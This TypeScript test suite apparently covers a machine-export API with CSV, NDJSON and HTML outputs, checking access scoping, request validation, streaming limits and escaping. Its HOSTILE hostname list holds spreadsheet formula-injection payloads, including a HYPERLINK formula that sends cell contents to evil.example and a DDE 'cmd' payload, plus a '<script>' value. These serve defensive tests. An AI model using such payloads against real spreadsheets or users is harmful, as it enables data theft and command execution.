import { parse } from 'csv-parse/sync';
import { Agent, request as send, type Dispatcher } from 'undici';
import { ADMIN_TOKEN, startApplication, until, type Application } from '../support/application';
import type { Answer } from '../support/client';
import { insertMachineRows, machineRow } from '../support/machine-rows';

import { makeToken } from '../support/people';
import {
  CHESHIRE,
  CHESHIRE_PRACTICE,
  GREATER_MANCHESTER,
  LONDON_PRACTICE,
  NEIGHBOUR,
  PRACTICE,
} from '../support/practices';
import { GOOD_FILE, PAGE_FAULT, Pc, wireMachine } from '../support/wire';

/** Machines as files: what stands in them, whose machines, and what a broken one looks like. */
let app: Application;
let agent: Agent;
let cheshire: string;
let crashed: Pc;

/** What a machine may call itself. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/"&A1,"open me")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  ' +1',
  'PC;=1+1',
  'a,"b",c',
  'Größe ☃ \u{1f4a5}',
];
const PATH = '/v1/exports/machines';
/** More than the buffers of a connection hold, so that an export stands still while nobody reads it. */
const LARGE_MACHINES = 8_000;
const LARGE_TEXT = 'S'.repeat(2_000);

beforeAll(async () => {
  app = await startApplication();
  agent = new Agent({ connections: 8 });
  await app.database.pool.query(
    'UPDATE practice SET address = $2, postcode = $3, telephone = $4 WHERE code = $1',
    [CHESHIRE_PRACTICE, '1 High Street, Ztown', 'ZZ1 1ZZ', '<script>'],
  );
  await app.client.enrolAll(
    HOSTILE.map((hostname) => wireMachine(PRACTICE, { hostname, serialNumber: `SN ${hostname}` })),
  );
  crashed = await Pc.enrol(app.client, wireMachine(CHESHIRE_PRACTICE, { hostname: 'RECEPTION-1' }));
  const crashes = [{ at: '2024-07-19T04:31:07Z', stopCode: PAGE_FAULT }];
  crashed.boot('2024-07-19T08:40:00Z', { channelFileWrittenAt: GOOD_FILE, crashes });
  await crashed.report('2024-07-19T08:50:00Z');
  await insertMachineRows(
    app.database.pool,
    Array.from({ length: LARGE_MACHINES }, (_, i) =>
      machineRow(LONDON_PRACTICE, i, { serialNumber: LARGE_TEXT, state: 'NOT_AFFECTED' }),
    ),
  );
  cheshire = (await makeToken(app.client, { role: 'IT', organisations: [CHESHIRE] })).token;
});

afterAll(async () => {
  await agent.destroy();
  await app.close();
});

type Csv = Record<string, string>;

async function csv(body: object, bearer = ADMIN_TOKEN): Promise<Csv[]> {
  const { status, text } = await app.client.post(PATH, { ...body, format: 'CSV' }, bearer);
  expect(status).toBe(200);
  return parse(text, { columns: true, bom: true });
}

async function ndjson(body: object, bearer = ADMIN_TOKEN): Promise<Record<string, unknown>[]> {
  const { text } = await app.client.post(PATH, { ...body, format: 'NDJSON' }, bearer);
  return text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, unknown>);
}

describe('a file', () => {
  it('holds every machine of its filter once, as lists tell it', async () => {
    const [machine, end, ...others] = await ndjson({ filter: { group: ['UNRECOVERED'] } });
    expect(others).toEqual([]);
    expect(end).toEqual({ complete: true, machines: 1, asOf: '2024-07-19T08:50:00.000Z' });
    expect(machine).toMatchObject({
      machineId: crashed.id,
      ...{ practice: CHESHIRE_PRACTICE, practiceName: 'Mill Lane', icb: CHESHIRE, regionName: 'North West' },
      ...{ hostname: 'RECEPTION-1', state: 'STABILISING', exposure: 'CRASHED', freshness: 'FRESH' },
      ...{ failingTests: ['UPTIME_60_MIN', 'THREE_HEARTBEATS'], lastHeardAt: '2024-07-19T08:50:00.000Z' },
      ...{ sensorRunning: true, bitlocker: 'PROTECTED', tags: [], assignee: null, identityConflict: false },
    });
    const all = await csv({});
    expect(all).toHaveLength(LARGE_MACHINES + HOSTILE.length + 1);
    expect(new Set(all.map(({ machineId }) => machineId)).size).toBe(all.length);
    const [line] = await csv({ filter: { hostnameIs: 'reception-1' } });
    expect(Object.keys(line ?? {})).toEqual(Object.keys(machine ?? {}));
    expect(line).toMatchObject({ failingTests: 'UPTIME_60_MIN | THREE_HEARTBEATS', assignee: '' });
  });

  it('cannot be made to reckon by what a machine calls itself, and NDJSON has it as it is', async () => {
    const filter = { within: [PRACTICE] };
    const lines = await csv({ filter });
    expect(lines).toHaveLength(HOSTILE.length);
    for (const cell of lines.flatMap((line) => Object.values(line)))
      expect(cell).not.toMatch(/^\s*[=+\-@]|;\s*=/);
    expect(lines.map(({ hostname }) => hostname)).toContain(
      '\'=HYPERLINK("http://evil.example/"&A1,"open me")',
    );
    const told = (await ndjson({ filter })).slice(0, -1).map(({ hostname }) => hostname as string);
    // Blanks around a name are not part of it.
    expect(told.sort()).toEqual(HOSTILE.map((name) => name.trim()).sort());
  });

  it('is also given by address, with a mark for Excel, under a name with the moment', async () => {
    const filter = JSON.stringify({ hostname: 'Größe', freshness: ['NEVER'] });
    const path = `${PATH}?${new URLSearchParams({ filter, bom: 'true' }).toString()}`;
    const { body, headers } = await send(`${app.url}${path}`, {
      headers: { authorization: `Bearer ${ADMIN_TOKEN}` },
      dispatcher: agent,
    });
    const bytes = Buffer.from(await body.arrayBuffer());
    expect(bytes.subarray(0, 12).toString('latin1')).toBe('\u00ef\u00bb\u00bfmachineId');
    expect(bytes.toString('utf8')).toContain('Größe ☃ \u{1f4a5}');
    expect(headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': 'attachment; filename="machines-2024-07-19T0850Z.csv"',
    });
  });

  it('without machines has its header, or its last line', async () => {
    const filter = { or: [] };
    expect((await app.client.post(PATH, { filter }, ADMIN_TOKEN)).text.split('\r\n')).toHaveLength(2);
    expect(await ndjson({ filter })).toMatchObject([{ complete: true, machines: 0 }]);
  });
});

describe('who asks', () => {
  it('gets the machines of their own scope, whatever they ask for', async () => {
    for (const filter of [null, {}, { within: ['ENGLAND'] }, { not: { hostname: 'x' } }]) {
      expect((await csv({ filter }, cheshire)).map(({ machineId }) => machineId)).toEqual([crashed.id]);
    }
    const foreign = { filter: { within: [PRACTICE, NEIGHBOUR] }, format: 'CSV' };
    expect((await app.client.post(PATH, foreign, cheshire)).status).toBe(400);
  });

  it('must have the role IT', async () => {
    const viewer = (await makeToken(app.client, { role: 'VIEWER', organisations: [CHESHIRE] })).token;
    const answers = [];
    for (const bearer of [viewer, 'nobody', crashed.credential, null]) {
      const { status, body } = await app.client.post(PATH, {}, bearer);
      answers.push([status, body.code]);
    }
    expect(answers).toEqual([
      [403, 'FORBIDDEN'],
      [401, 'UNAUTHENTICATED'],
      [401, 'UNAUTHENTICATED'],
      [401, 'CREDENTIAL_MISSING'],
    ]);
  });

  it.each([
    [{ filters: { state: ['DOWN'] } }],
    [{ filter: { stat: ['DOWN'] } }],
    [{ filter: { state: ['GONE'] } }],
    [{ filter: { lastHeardBefore: '2024-07-19T08:50:00' } }],
    [{ filter: { and: [null] } }],
    [{ filter: { not: { not: { not: { not: { not: { hostname: 'x' } } } } } } }],
    [{ format: 'XLSX' }],
    [{ format: 'NDJSON', bom: true }],
    [[]],
  ])('and is refused what cannot be meant: %j', async (body) => {
    const answer = await app.client.post(PATH, body, ADMIN_TOKEN);
    expect([answer.status, answer.body.code]).toEqual([400, 'BAD_REQUEST']);
    expect(answer.body.message).not.toContain('Did you mean');
  });

  it('and is refused a filter without bottom', async () => {
    const body = `{"filter":${'{"not":'.repeat(3_000)}{}${'}'.repeat(3_001)}`;
    expect((await app.client.post(PATH, body, ADMIN_TOKEN)).body.code).toBe('BAD_REQUEST');
  });
});

describe('a work list', () => {
  const print = async (filter: object, bearer = ADMIN_TOKEN): Promise<Answer> =>
    app.client.request(
      `/v1/exports/work-list?${new URLSearchParams({ filter: JSON.stringify(filter) }).toString()}`,
      { bearer },
    );

  it('tells of machines that are not recovered what they are, where and what to do', async () => {
    const { status, text, headers } = await print({});
    expect(status).toBe(200);
    expect(headers['content-type']).toBe('text/html; charset=utf-8');
    expect(headers['content-security-policy']).toMatch(/^default-src 'none'; style-src 'sha256-/);
    expect(text.match(/<section>/g)).toHaveLength(1);
    expect(text).toContain('<h1><bdi>Mill Lane</bdi></h1>');
    expect(text).toContain(
      '<p><bdi>1 High Street, Ztown</bdi> · <bdi>ZZ1 1ZZ</bdi> · Telephone <bdi>&lt;script&gt;</bdi></p>',
    );
    expect(text).toContain('<strong><bdi>RECEPTION-1</bdi></strong>');
    expect(text).toContain('Not yet: <bdi>One boot session has been up for 60 minutes.</bdi>');
    expect(text).toContain(
      'End of the work list: 1 machine at 1 practice not recovered, as of Fri 19 Jul, 09:50.',
    );
  });

  it('tells how to reach a practice in queries, too, and of a practice without it nothing', async () => {
    const asked = 'postcode address telephone';
    expect(
      await app.client
        .query(`{ known: machines(first: 1, filter: { within: ["${CHESHIRE_PRACTICE}"] }) { edges { node { practice { ${asked} } } } }
        unknown: machines(first: 1, filter: { within: ["${PRACTICE}"] }) { edges { node { practice { ${asked} } } } } }`),
    ).toEqual({
      known: {
        edges: [
          {
            node: {
              practice: { postcode: 'ZZ1 1ZZ', address: '1 High Street, Ztown', telephone: '<script>' },
            },
          },
        ],
      },
      unknown: {
        edges: [{ node: { practice: { postcode: null, address: null, telephone: null } } }],
      },
    });
  });

  it('is held to the scope, whatever is asked for, and asks for the role', async () => {
    const manchester = (await makeToken(app.client, { role: 'IT', organisations: [GREATER_MANCHESTER] }))
      .token;
    for (const filter of [{}, { within: ['ENGLAND'] }, { group: ['FINE', 'UNRECOVERED'] }])
      expect((await print(filter, manchester)).text).toContain('0 machines at 0 practices');
    expect((await print({ within: [CHESHIRE] }, cheshire)).text).toContain('1 machine at 1 practice');
    expect((await print({}, crashed.credential)).status).toBe(401);
    expect((await print({ stat: [] })).status).toBe(400);
  });
});

describe('a large file', () => {
  const open = async (format: string): Promise<Dispatcher.ResponseData> =>
    send(`${app.url}${PATH}?format=${format}`, {
      headers: { authorization: `Bearer ${ADMIN_TOKEN}` },
      dispatcher: agent,
    });

  it('stands still while nobody reads it, and is over when the reader goes', async () => {
    const unread = [await open('CSV'), await open('CSV')];
    const third = await open('CSV');
    expect([third.statusCode, third.headers['retry-after']]).toEqual([429, '10']);
    await third.body.dump();
    for (const { body } of unread) {
      body.on('error', () => undefined);
      body.destroy();
    }
    await until('the places are free again', async () => {
      const { statusCode, body } = await open('NDJSON');
      await body.dump({ limit: 100_000_000 });
      return statusCode === 200;
    });
  });

  it('that breaks off is cut off: it cannot be taken for a whole one', async () => {
    const { body } = await open('NDJSON');
    await app.database.pool.query('ALTER TABLE machine_tag RENAME TO machine_tag_gone');
    try {
      await expect(body.text()).rejects.toThrow();
    } finally {
      await app.database.pool.query('ALTER TABLE machine_tag_gone RENAME TO machine_tag');
    }
    const told = await ndjson({});
    expect(told.at(-1)).toMatchObject({ complete: true, machines: told.length - 1 });
  });
});
